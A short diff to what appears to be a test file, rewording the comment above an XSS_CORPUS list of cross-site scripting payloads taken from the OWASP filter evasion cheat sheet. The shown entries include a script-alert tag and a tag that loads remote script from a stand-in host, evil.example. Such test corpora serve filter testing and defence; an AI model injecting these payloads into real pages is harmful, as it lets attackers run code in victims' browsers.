@@ -1,4 +1,4 @@
-/** Ways to bring a script or a foreign address into a page, after the OWASP filter evasion cheat sheet. */
+/** Ways to inject a script or a foreign URL into a page, after the OWASP filter evasion cheat sheet. */
 export const XSS_CORPUS: readonly string[] = [
   "<script>alert(1)</script>",
   "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
